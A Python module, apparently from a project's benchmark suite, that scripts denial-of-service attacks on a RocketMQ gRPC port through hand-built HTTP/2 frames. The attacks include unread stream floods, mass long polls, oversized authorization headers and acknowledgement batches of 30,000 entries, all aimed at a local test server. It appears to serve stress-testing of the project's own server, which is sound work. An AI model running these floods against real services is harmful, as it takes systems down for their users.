"""Attacks on the port for RocketMQ's clients; the victim's gRPC port is that one."""

from __future__ import annotations

import asyncio
import contextlib
import itertools
from collections.abc import Callable, Iterable, Iterator
from typing import Any, Final, cast

from benchmarks.scenarios.attacks.client import PIECE, Victim, at_once, connected, send
from twophase.grpc_server.http2 import frames
from twophase.grpc_server.status import framed
from twophase.rocketmq_wire.codes import ClientType, MessageType
from twophase.rocketmq_wire.descriptors import SERVICE, kind

_Fields = tuple[tuple[bytes, bytes], ...]
_GREETING: Final = frames.PREFACE + frames.settings({})
_CONNECTIONS: Final = 40
_STREAMS: Final = 100
_TOPIC: Final = "flood"
_POLL_S: Final = 60
_LARGE_BYTES: Final = 512 * 1024
_LARGE_SENDERS: Final = 2
_READERS: Final = 16
_HALF_BYTES: Final = 16 * 1024
_HALF_SENDERS: Final = 4
_TURN_S: Final = 0.05
_CREDENTIAL_BYTES: Final = 60_000
_ACKNOWLEDGED: Final = 30_000


async def streams_that_never_read(victim: Victim) -> None:
    """Forty connections hold a hundred streams of telemetry each.

    Each stream sends its settings without end, and no answer is read.
    """
    settings = kind("Settings")(client_type=ClientType.PRODUCER)
    settings.publishing.topics.add(name=_TOPIC)
    command = framed(kind("TelemetryCommand")(settings=settings).SerializeToString())
    numbers = range(1, 2 * _STREAMS, 2)

    def pieces(client: str) -> Iterator[bytes]:
        yield _GREETING + b"".join(_head(number, "Telemetry", f"{client}-{number}") for number in numbers)
        while True:
            yield b"".join(frames.frame(frames.DATA, 0, number, command) for number in numbers)

    await _each(lambda client: _unread(victim, pieces(client)))


async def messages_that_wait(victim: Victim) -> None:
    """Forty connections hold a hundred streams of telemetry each, and read nothing.

    Each stream is filled with messages of no byte, which the server takes one by one.
    """
    empty = framed(b"")
    piece = empty * (frames.DEFAULT_FRAME_BYTES // len(empty))
    full = frames.DEFAULT_WINDOW // len(piece)

    def pieces(client: str) -> Iterator[bytes]:
        yield _GREETING
        for number in range(1, 2 * _STREAMS, 2):
            yield _head(number, "Telemetry", f"{client}-{number}")
            yield frames.frame(frames.DATA, 0, number, piece) * full

    await _each(lambda client: _unread(victim, pieces(client)))


async def long_polls(victim: Victim) -> None:
    """Forty connections hold a hundred long polls each, of an empty topic.

    They come from a hundred groups.
    """

    def pieces(client: str) -> Iterator[bytes]:
        yield _GREETING
        for number in range(1, 2 * _STREAMS, 2):
            yield _call(number, "ReceiveMessage", client, _receive(f"group-{number}"))

    await _each(lambda client: send(victim.grpc, pieces(client)))


async def bodies_that_are_not_read(victim: Victim) -> None:
    """Large messages are sent, and forty groups ask for all of them and read nothing."""
    message = {"topic": {"name": _TOPIC}, "body": bytes(_LARGE_BYTES)}

    def sends(client: str) -> Iterator[bytes]:
        yield _GREETING
        for number in range(1, frames.NUMBER_MAX, 2):
            yield _call(number, "SendMessage", client, _sent(message, f"{client}-{number}", MessageType.NORMAL))

    def receives(client: str) -> Iterator[bytes]:
        yield _GREETING
        for number in range(1, 2 * _STREAMS, 2):
            yield _call(number, "ReceiveMessage", client, _receive(f"group-{number % _CONNECTIONS}"))

    async def read(name: str) -> None:
        await _unread(victim, receives(name))

    async def write(name: str) -> None:
        await send(victim.grpc, sends(name), _TURN_S)

    names = itertools.count()
    await asyncio.gather(
        at_once(_READERS, lambda: read(f"r{next(names)}")), at_once(_LARGE_SENDERS, lambda: write(f"s{next(names)}"))
    )


async def undecided_halves(victim: Victim) -> None:
    """Four connections send halves without end.

    Their topic has no consumer, and their producers have no stream.
    """
    message = {"topic": {"name": _TOPIC}, "body": bytes(_HALF_BYTES)}

    def pieces(client: str) -> Iterator[bytes]:
        yield _GREETING
        for number in range(1, frames.NUMBER_MAX, 2):
            yield _call(number, "SendMessage", client, _sent(message, f"{client}-{number}", MessageType.TRANSACTION))

    names = itertools.count()
    await at_once(_HALF_SENDERS, lambda: send(victim.grpc, pieces(f"h{next(names)}")))


async def long_credentials(victim: Victim) -> None:
    """Forty connections make calls with credentials of 60 kB, which name no token.

    The server reads them before it knows who calls.
    """
    evil = b"MQv2-HMAC-SHA1 Credential=" + b"a" * _CREDENTIAL_BYTES

    def pieces(client: str) -> Iterator[bytes]:
        yield _GREETING
        for number in range(1, frames.NUMBER_MAX, 2):
            yield _call(number, "QueryRoute", client, b"", ((b"authorization", evil),))

    await _each(lambda client: send(victim.grpc, pieces(client), _TURN_S))


async def acknowledgements_of_many(victim: Victim) -> None:
    """Forty connections acknowledge 30 000 empty receipts in each call."""
    request = kind("AckMessageRequest")(group={"name": "group"}, topic={"name": _TOPIC})
    for _ in range(_ACKNOWLEDGED):
        request.entries.add()
    raw = bytes(request.SerializeToString())

    def pieces(client: str) -> Iterator[bytes]:
        yield _GREETING
        for number in range(1, frames.NUMBER_MAX, 2):
            yield _call(number, "AckMessage", client, raw)

    await _each(lambda client: send(victim.grpc, pieces(client), _TURN_S))


async def _each(play: Callable[[str], Any]) -> None:
    names = itertools.count()
    await at_once(_CONNECTIONS, lambda: play(f"client-{next(names)}"))


async def _unread(victim: Victim, pieces: Iterable[bytes]) -> None:
    """Send pieces on one connection, and read nothing, until the server ends it."""
    async with connected(victim.grpc) as (reader, writer):
        cast("asyncio.Transport", writer.transport).pause_reading()
        for piece in pieces:
            writer.write(piece)
            await writer.drain()
        with contextlib.suppress(TimeoutError):
            async with asyncio.timeout(_POLL_S):
                await reader.read(PIECE)


def _receive(group: str) -> bytes:
    request = kind("ReceiveMessageRequest")(group={"name": group}, batch_size=32)
    request.message_queue.topic.name = _TOPIC
    request.invisible_duration.seconds = request.long_polling_timeout.seconds = _POLL_S
    return bytes(request.SerializeToString())


def _sent(message: dict[str, Any], id_: str, type_: MessageType) -> bytes:
    system = {"message_id": id_, "message_type": type_, "body_encoding": 1}
    return bytes(kind("SendMessageRequest")(messages=[message | {"system_properties": system}]).SerializeToString())


def _head(stream: int, method: str, client: str, more: _Fields = ()) -> bytes:
    fields = (
        (b":method", b"POST"), (b":scheme", b"http"), (b":path", f"/{SERVICE}/{method}".encode()),
        (b":authority", b"127.0.0.1"), (b"content-type", b"application/grpc"), (b"te", b"trailers"),
        (b"x-mq-client-id", client.encode()), *more,
    )  # fmt: skip
    return frames.header_frames(stream, b"".join(frames.field(name, value) for name, value in fields))


def _call(stream: int, method: str, client: str, raw: bytes, more: _Fields = ()) -> bytes:
    """Return a whole call; `more`: of its metadata."""
    data = framed(raw)
    parts = [data[at : at + frames.DEFAULT_FRAME_BYTES] for at in range(0, len(data), frames.DEFAULT_FRAME_BYTES)]
    return b"".join(
        [
            _head(stream, method, client, more),
            *(frames.frame(frames.DATA, 0, stream, part) for part in parts),
            frames.frame(frames.DATA, frames.END_STREAM, stream),
        ]
    )
